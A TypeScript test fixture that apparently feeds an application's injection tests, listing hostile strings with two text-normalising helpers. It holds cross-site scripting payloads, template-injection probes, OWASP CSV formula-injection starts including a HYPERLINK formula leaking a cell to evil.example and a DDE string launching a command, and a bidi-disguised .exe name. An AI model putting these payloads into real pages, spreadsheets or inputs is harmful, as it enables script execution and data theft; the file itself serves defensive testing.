// The hostile strings of the injection proof (tests/integration/injection.test.ts for emails and CSV,
// tests/e2e/injection.spec.ts for pages): script and markup, a javascript: URL, template syntax, every
// spreadsheet formula start of OWASP's CSV injection list, and Unicode direction overrides. Every script
// payload sets window.__pwned, so a page test can tell whether any of them ran.

export const HOSTILE_TEXT = [
  "<script>window.__pwned=1</script>",
  '<img src=x onerror="window.__pwned=1">',
  '"><svg onload=window.__pwned=1>',
  "javascript:window.__pwned=1",
  "{{7*7}} ${7*7} <%= 7*7 %>",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "Invoice \u202Efdp.exe\u202C \u2066bidi\u2069",
] as const;

/** What a single-line field (a name, a title) stores of it: trimmed, no line breaks (those are refused). */
export function singleLine(text: string): string {
  return text.replace(/[\r\n]/g, "").trim();
}

/** What a trimmed multi-line field (comments, reasons, commentary) stores of it. */
export function multiLine(text: string): string {
  return text.trim();
}
